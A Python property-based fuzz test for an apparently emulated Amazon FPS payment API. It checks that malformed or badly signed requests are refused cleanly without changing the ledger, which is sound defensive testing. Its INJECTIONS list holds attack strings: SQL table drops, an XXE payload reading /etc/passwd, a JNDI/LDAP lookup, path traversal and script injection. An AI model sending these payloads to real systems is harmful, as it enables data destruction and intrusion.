"""Property-based fuzzing of the FPS endpoint with malformed requests, on SQLite and PostgreSQL.

Hypothesis builds requests through Starlette's TestClient: missing, duplicated, over-long,
non-UTF-8 and malformed parameters; wrong types; negative, three-decimal, huge, exponent and
NaN amounts; unknown actions and parameters; SQL, XML and HTML injection strings; random bytes
as bodies; wrong content types; GET, POST and other verbs. Some are signed correctly (so they
get past authentication and reach the actions, with the ids of a real prepaid instrument and
its tokens among the values), others are unsigned, badly signed, signed with the wrong secret,
an unknown key or a stale timestamp.

Every answer must be below HTTP 500, parse as XML, be the FPS error envelope (or the success
envelope of the action, when the request happened to be valid) and carry no Python traceback.
After each example the ledger, the transactions and the tokens must be exactly as before when
no request of the example succeeded at a state-changing action; at the end the audit must be
clean and ``/metrics`` must have counted every request.

CI mode runs :data:`DEFAULT_EXAMPLES` examples per store (one to four requests each: about
20,000 requests in all, in about three minutes for both stores). Long mode sets
``PENNY_FUZZ_EXAMPLES`` (examples per store) and lifts pytest's timeout (about 40 examples a
second, so 100,000 take the better part of an hour per store)::

    PENNY_FUZZ_EXAMPLES=100000 .venv/bin/pytest -q --timeout=0 tests/test_fps_fuzz.py -k malformed

Adding ``--hypothesis-show-statistics`` lists how often each status and error code (or successful
action) came back, which shows how deep the generated requests get.
"""

from __future__ import annotations

import os
import warnings
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlencode

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from prometheus_client.parser import text_string_to_metric_families
from sqlalchemy import func, select

from builders import application, fps_timestamp, manual_clock, new_shop, open_store
from penny.clock import ManualClock
from penny.engine.ledger import Ledger
from penny.fps.actions import ACTIONS, COMMON_PARAMETERS
from penny.fps.decode import MAX_REQUEST_BYTES
from penny.fps.signature import sign_v2
from penny.fps.wire import ACTIONS_2010_08_28
from penny.ledger.results import ResultCode
from penny.services.payments import InstrumentSetup
from penny.storage.database import Database
from penny.storage.payments_sql import tokens, transactions
from penny.storage.schema import accounts, journals, legs

with warnings.catch_warnings():
    # This Starlette prefers the ``httpx2`` fork and warns when it drives plain httpx.
    warnings.simplefilter("ignore")
    from starlette.testclient import TestClient

#: Examples per store in CI mode; each sends one to four requests.
DEFAULT_EXAMPLES = 4000
EXAMPLES = int(os.environ.get("PENNY_FUZZ_EXAMPLES", str(DEFAULT_EXAMPLES)))

HOST = "testserver"
FORM = "application/x-www-form-urlencoded"
#: Actions whose success changes stored state.
MUTATING = frozenset({"Pay", "FundPrepaid", "SettleDebt", "WriteOffDebt", "Refund", "CancelToken"})


@dataclass
class FuzzWorld:
    db: Database
    clock: ManualClock
    ledger: Ledger
    client: TestClient
    key: str
    secret: str
    other_key: str
    other_secret: str
    setup: InstrumentSetup
    ids: list[str]
    sent: int = 0

    def timestamp(self, offset_s: int = 0, *, millis: bool = False) -> str:
        return fps_timestamp(self.clock.now_us(), millis=millis, offset_s=offset_s)

    def snapshot(self) -> tuple[Any, ...]:
        """Balances, counts of applied journals, legs and transactions, token states."""
        with self.db.read() as conn:
            balances = conn.execute(
                select(
                    accounts.c.id,
                    accounts.c.debits_posted,
                    accounts.c.credits_posted,
                    accounts.c.debits_pending,
                    accounts.c.credits_pending,
                ).order_by(accounts.c.id)
            ).all()
            # A refused command is remembered (a journal with its refusal code and no legs,
            # so that a retry with the same key gets the same answer): count what moved value.
            journal_count = conn.execute(
                select(func.count()).select_from(journals).where(journals.c.result == ResultCode.ok)
            ).scalar()
            leg_count = conn.execute(select(func.count()).select_from(legs)).scalar()
            txn_count = conn.execute(select(func.count()).select_from(transactions)).scalar()
            token_states = conn.execute(
                select(tokens.c.id, tokens.c.status).order_by(tokens.c.id)
            ).all()
        return (tuple(balances), journal_count, leg_count, txn_count, tuple(token_states))


@pytest.fixture
def fuzz_world(database_url: str) -> Iterator[FuzzWorld]:
    services = open_store(database_url)
    db, ledger, payments = services.database, services.ledger, services.payments
    clock = manual_clock(services)
    shop = new_shop(services, bank=False)
    merchant, buyer, card = shop.merchant, shop.buyer, shop.card
    setup = shop.prepaid("fuzz")
    # The system accounts are opened on first use, even by a request then refused: open them
    # now, so that "nothing changed" can be checked exactly.
    payments.chart("USD")
    ids = [
        setup.instrument.id,
        setup.sender_token.id,
        setup.second_token.id,
        merchant.id,
        buyer.id,
        card.id,
        "fuzz-sender",
    ]
    app = application(services, request_clock=True)
    with TestClient(app, raise_server_exceptions=False) as client:
        world = FuzzWorld(
            db=db,
            clock=clock,
            ledger=ledger,
            client=client,
            key=merchant.access_key,
            secret=merchant.secret,
            other_key=shop.other.access_key,
            other_secret=shop.other.secret,
            setup=setup,
            ids=ids,
        )
        yield world
        scraped = client.get("/metrics").text
    counted = sum(
        sample.value
        for family in text_string_to_metric_families(scraped)
        if family.name == "penny_fps_requests"
        for sample in family.samples
        if sample.name == "penny_fps_requests_total"
    )
    assert counted == world.sent
    assert ledger.audit().ok
    db.dispose()


# -- strategies ----------------------------------------------------------------------------

INJECTIONS = (
    "' OR '1'='1",
    "'; DROP TABLE transactions; --",
    "Robert'); DROP TABLE tokens;--",
    '" OR 1=1 --',
    "1; SELECT pg_sleep(10)",
    "<x>&amp;</x>",
    "]]><![CDATA[",
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>',
    "<script>alert(1)</script>",
    "&lt;&#0;&#xD800;",
    "\x00\x01\x1b\x7f",
    "\ufffe\uffff",
    "${jndi:ldap://x/a}",
    "../../etc/passwd",
    "{{7*7}}%s%n",
    "\u202e\u0000",
)
AMOUNTS = (
    *("1.00", "0.25") * 4,
    "-1",
    "-0.01",
    "0",
    "0.00",
    "1.005",
    "0.001",
    "1e3",
    "1E-2",
    "NaN",
    "nan",
    "Infinity",
    "-Infinity",
    "9" * 40,
    "99999999999999999999.99",
    "1,00",
    " 1.00",
    "1.00 ",
    "+1",
    "0x10",
    "\u0661\u0662",
    "1..0",
    ".5",
    "5.",
    "1.00",
    "10",
    "0.50",
    "3",
)
OTHER_VALUES = (
    "USD",
    "EUR",
    "usd",
    "Active",
    "Caller",
    "Recipient",
    "Ascending",
    "2010-08-28",
    "2008-09-17",
    "2007-01-08",
    "2",
    "1",
    "HmacSHA1",
    "HmacMD5",
    "2012-01-01",
    "2012-13-45T25:61:61Z",
    "-5",
    "0",
    "1000000000000",
    "true",
)
PARAMETER_NAMES = sorted(
    COMMON_PARAMETERS | {name for spec in ACTIONS.values() for name in spec.parameters}
)
UNKNOWN_NAMES = ("Foo", "Action.1", "signature", "Role.0", "Role.99", "X" * 200, "A B", "Ä")


def values(world_ids: list[str]) -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(world_ids),
        st.sampled_from(INJECTIONS),
        st.sampled_from(AMOUNTS),
        st.sampled_from(OTHER_VALUES),
        st.text(max_size=30),
        st.integers(8100, 8300).map(lambda n: "v" * n),
        st.integers(2040, 2100).map(lambda n: "https://example.com/" + "i" * n),
    )


NAMES = st.one_of(
    st.sampled_from(PARAMETER_NAMES),
    st.sampled_from(UNKNOWN_NAMES),
    st.text(min_size=1, max_size=12),
)
ACTION_NAMES = st.one_of(
    st.sampled_from(sorted(ACTIONS)),
    st.sampled_from(sorted(ACTIONS)),
    st.sampled_from(sorted(ACTIONS)),
    st.sampled_from(sorted(ACTIONS_2010_08_28)),
    st.sampled_from(("", "pay", "Unknown", "GetAccountBalance ", *INJECTIONS[:3])),
    st.text(max_size=20),
)
SIGNING = st.sampled_from(
    (
        *("good",) * 12,
        "none",
        "bad",
        "wrong_secret",
        "other",
        "unknown_key",
        "stale",
        "expires",
    )
)
WIRE_MUTATIONS = st.sampled_from(
    (
        *("none",) * 14,
        "duplicate",
        "bad_utf8",
        "bad_percent",
        "empty_name",
        "too_many",
        "too_large",
    )
)
CONTENT_TYPES = st.sampled_from(
    (
        *(FORM,) * 8,
        f"{FORM}; charset=utf-8",
        f"{FORM}; charset=ISO-8859-1",
        "text/xml",
        "application/json",
        "multipart/form-data; boundary=x",
        "",
        "garbage;;;=",
        None,
    )
)
METHODS = st.sampled_from(("GET",) * 6 + ("POST",) * 5 + ("PUT", "DELETE", "PATCH", "TRACE"))
#: Verbs the FPS route takes (and counts); others are refused by Starlette's router.
ROUTED = frozenset({"GET", "POST", "PUT", "DELETE", "PATCH"})
AUTH_NAMES = (
    ("Action",),
    ("Version",),
    ("AWSAccessKeyId",),
    ("SignatureVersion",),
    ("SignatureMethod",),
    ("Timestamp",),
)


@dataclass(frozen=True)
class Shot:
    method: str
    action: str
    params: dict[str, str]
    dropped: frozenset[str]
    signing: str
    bad_signature: str
    mutation: str
    content_type: str | None
    query_on_post: bool
    random_body: bytes | None


def clean_shot(
    method: str, action: str, params: dict[str, str], content_type: str | None = FORM
) -> Shot:
    """A well-formed, well-signed request of ``action``: only its parameters are chosen."""
    return Shot(method, action, params, frozenset(), "good", "", "none", content_type, False, None)


#: Plausible parameters of each served action, so that many requests get deep into it;
#: ``@…`` values are placeholders (see :data:`IDS`), ``@amount`` draws from :data:`AMOUNTS`.
TEMPLATES: dict[str, dict[str, str]] = {
    "Pay": {
        "SenderTokenId": "@sender_token",
        "CallerReference": "@ref",
        "TransactionAmount.Value": "@amount",
    },
    "FundPrepaid": {
        "SenderTokenId": "@funding_token",
        "PrepaidInstrumentId": "@instrument",
        "CallerReference": "@ref",
        "FundingAmount.Value": "@amount",
    },
    "SettleDebt": {
        "SenderTokenId": "@sender_token",
        "CreditInstrumentId": "@instrument",
        "CallerReference": "@ref",
        "SettlementAmount.Value": "@amount",
    },
    "WriteOffDebt": {
        "CreditInstrumentId": "@instrument",
        "CallerReference": "@ref",
        "AdjustmentAmount.Value": "@amount",
    },
    "Refund": {"TransactionId": "@ref", "CallerReference": "@ref", "RefundAmount.Value": "@amount"},
    "GetPrepaidBalance": {"PrepaidInstrumentId": "@instrument"},
    "GetDebtBalance": {"CreditInstrumentId": "@instrument"},
    "GetTransaction": {"TransactionId": "@ref"},
    "GetTransactionStatus": {"TransactionId": "@ref"},
    "GetTokenByCaller": {"TokenId": "@sender_token"},
    "GetTokenUsage": {"TokenId": "@sender_token"},
    "GetAccountActivity": {"StartDate": "2012-01-01"},
}


@st.composite
def shots(draw: st.DrawFn, ids: list[str]) -> Shot:
    action = draw(ACTION_NAMES)
    params = dict(TEMPLATES.get(action, {}))
    for name, value in params.items():
        if value == "@amount":
            params[name] = draw(st.sampled_from(AMOUNTS))
        elif value == "@ref":
            params[name] = draw(st.sampled_from(ids) | st.text(max_size=20))
    spec = ACTIONS.get(action)
    own = sorted(spec.parameters) if spec is not None and spec.parameters else PARAMETER_NAMES
    clean = draw(st.integers(0, 3)) == 0
    params.update(
        draw(st.dictionaries(st.sampled_from(own), values(ids), max_size=1 if clean else 3))
    )
    if not clean and params and draw(st.integers(0, 3)) == 0:
        del params[draw(st.sampled_from(sorted(params)))]
    if not clean and draw(st.integers(0, 4)) == 0:
        params.update(draw(st.dictionaries(NAMES, values(ids), min_size=1, max_size=3)))
    method = draw(METHODS)
    if clean:
        # A clean request: only the action's parameters are fuzzed, so many get deep inside.
        return clean_shot(
            draw(st.sampled_from(("GET", "POST"))),
            action,
            params,
        )
    return Shot(
        method=method,
        action=action,
        params=params,
        dropped=draw(st.sampled_from((frozenset(),) * 8 + tuple(map(frozenset, AUTH_NAMES)))),
        signing=draw(SIGNING),
        bad_signature=draw(st.text(max_size=50)),
        mutation=draw(WIRE_MUTATIONS),
        content_type=draw(CONTENT_TYPES) if method != "GET" else None,
        query_on_post=draw(st.sampled_from((False,) * 7 + (True,))),
        random_body=draw(st.sampled_from((None,) * 7) | st.binary(max_size=300))
        if method != "GET"
        else None,
    )


# -- sending -------------------------------------------------------------------------------


def build(world: FuzzWorld, shot: Shot) -> dict[str, str]:
    key, secret = world.key, world.secret
    if shot.signing == "other":
        key, secret = world.other_key, world.other_secret
    elif shot.signing == "wrong_secret":
        secret = world.other_secret
    elif shot.signing == "unknown_key":
        key = "AKIA" + "0" * 16
    request = {
        "Action": shot.action,
        "AWSAccessKeyId": key,
        "SignatureVersion": "2",
        "SignatureMethod": "HmacSHA256",
        "Version": "2010-08-28",
    }
    if shot.signing == "stale":
        request["Timestamp"] = world.timestamp(-3600)
    elif shot.signing == "expires":
        request["Expires"] = world.timestamp(600)
    else:
        request["Timestamp"] = world.timestamp(millis=shot.method == "POST")
    request.update(shot.params)
    for name in shot.dropped:
        request.pop(name, None)
    request.pop("Signature", None)
    if shot.signing == "bad":
        request["Signature"] = shot.bad_signature
    elif shot.signing != "none":
        request["Signature"] = sign_v2(secret, shot.method, HOST, "/", request)
    return request


def mutate(encoded: bytes, mutation: str) -> bytes:
    if mutation == "duplicate":
        first = encoded.split(b"&", 1)[0]
        return encoded + b"&" + first
    if mutation == "bad_utf8":
        return encoded + b"&Note=%FF%FEab%C3%28"
    if mutation == "bad_percent":
        return encoded + b"&Note=100%"
    if mutation == "empty_name":
        return encoded + b"&=value"
    if mutation == "too_many":
        return encoded + b"".join(b"&P%d=1" % i for i in range(210))
    if mutation == "too_large":
        return encoded + b"&Note=" + b"a" * (MAX_REQUEST_BYTES + 10)
    return encoded


def send(world: FuzzWorld, shot: Shot) -> Any:
    mutation = shot.mutation
    if shot.method == "GET" and mutation == "too_large":
        mutation = "too_many"  # httpx itself refuses URLs over 64 KiB
    encoded = mutate(urlencode(build(world, shot)).encode("ascii"), mutation)
    if shot.method == "GET":
        response = world.client.get("/?" + encoded.decode("ascii"))
    else:
        url = "/?" + encoded.decode("ascii")[:200] if shot.query_on_post else "/"
        headers = {} if shot.content_type is None else {"Content-Type": shot.content_type}
        body = encoded if shot.random_body is None else shot.random_body
        response = world.client.request(shot.method, url, content=body, headers=headers)
    if shot.method in ROUTED:  # Starlette itself refuses other verbs (not counted in /metrics)
        world.sent += 1
    return response


def check(response: Any, version: str = "2010-08-28") -> tuple[int, str | None]:
    """Assert the answer is a well-formed FPS envelope (a success in the namespace of the
    ``version`` asked for); its status and success action."""
    status: int = response.status_code
    raw: bytes = response.content
    assert status < 500, raw
    assert b"Traceback" not in raw, raw
    assert b'File "' not in raw, raw
    assert response.headers["content-type"].startswith("text/xml"), raw
    root = ET.fromstring(raw)
    if root.tag == "Response":
        assert status >= 400, raw
        assert root.findtext("Errors/Error/Code"), raw
        assert root.find("Errors/Error/Message") is not None, raw
        assert root.findtext("RequestID"), raw
        return status, None
    namespace, _, tag = root.tag[1:].partition("}")
    assert status == 200, raw
    assert namespace == f"http://fps.amazonaws.com/doc/{version}/", raw
    assert tag.endswith("Response"), raw
    action = tag.removesuffix("Response")
    assert action in ACTIONS, raw
    assert root.findtext(f"{{{namespace}}}ResponseMetadata/{{{namespace}}}RequestId"), raw
    return status, action


# -- the property --------------------------------------------------------------------------


#: Ids the strategies draw from (strategies cannot see fixtures): placeholders that
#: :func:`resolve` replaces with the fixture's real ids, in the order of ``FuzzWorld.ids``.
IDS = ["@instrument", "@sender_token", "@funding_token", "@merchant", "@buyer", "@card", "@ref"]


def resolve(world: FuzzWorld, shot: Shot) -> Shot:
    """``shot`` with the placeholders of :data:`IDS` replaced by this world's real ids."""
    table = dict(zip(IDS, world.ids, strict=True))
    params = {name: table.get(value, value) for name, value in shot.params.items()}
    return Shot(**{**shot.__dict__, "params": params})


@settings(
    max_examples=EXAMPLES,
    deadline=None,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
    ],
)
@given(batch=st.lists(shots(IDS), min_size=1, max_size=4))
def test_malformed_requests_are_refused_cleanly(fuzz_world: FuzzWorld, batch: list[Shot]) -> None:
    before = fuzz_world.snapshot()
    changed = False
    for shot in batch:
        response = send(fuzz_world, resolve(fuzz_world, shot))
        # A shot may ask for 2008-09-17 (a value of the Version vocabulary): its answer is
        # then in that version's namespace.
        status, action = check(response, shot.params.get("Version", "2010-08-28"))
        code = ET.fromstring(response.content).findtext("Errors/Error/Code")
        event(f"{status} {action or code}")  # see --hypothesis-show-statistics
        if status == 200 and action in MUTATING:
            changed = True
    if not changed:
        assert fuzz_world.snapshot() == before


# -- regressions found by the fuzzer -------------------------------------------------------


def test_nul_in_a_value_is_refused_not_a_server_error(fuzz_world: FuzzWorld) -> None:
    """A NUL reached PostgreSQL (which cannot store it in text) and came back as HTTP 503."""
    for value in ("\x00", "ref\x00", "\u202e\x00"):
        shot = clean_shot(
            "GET",
            "WriteOffDebt",
            {
                "CreditInstrumentId": "@instrument",
                "CallerReference": value,
                "AdjustmentAmount.Value": "0",
            },
            content_type=None,
        )
        response = send(fuzz_world, resolve(fuzz_world, shot))
        assert check(response) == (400, None)
        assert ET.fromstring(response.content).findtext("Errors/Error/Code") == "InvalidRequest"


def test_a_valid_request_through_the_fuzz_helpers_succeeds(fuzz_world: FuzzWorld) -> None:
    """The generator's templates do reach the actions: a clean FundPrepaid succeeds."""
    shot = clean_shot(
        "POST",
        "FundPrepaid",
        {
            "SenderTokenId": "@funding_token",
            "PrepaidInstrumentId": "@instrument",
            "CallerReference": "fund-1",
            "FundingAmount.Value": "10",
        },
    )
    assert check(send(fuzz_world, resolve(fuzz_world, shot))) == (200, "FundPrepaid")


def test_over_long_ipn_url_is_refused_not_a_server_error(fuzz_world: FuzzWorld) -> None:
    """An OverrideIPNURL longer than its column (2048) failed on PostgreSQL with HTTP 503."""
    for length, expected in ((2048, (200, "FundPrepaid")), (2049, (400, None))):
        shot = clean_shot(
            "POST",
            "FundPrepaid",
            {
                "SenderTokenId": "@funding_token",
                "PrepaidInstrumentId": "@instrument",
                "CallerReference": f"fund-{length}",
                "FundingAmount.Value": "1.00",
                "OverrideIPNURL": "https://example.com/" + "a" * (length - 20),
            },
        )
        response = send(fuzz_world, resolve(fuzz_world, shot))
        assert check(response) == expected
    assert ET.fromstring(response.content).findtext("Errors/Error/Code") == "InvalidParams"
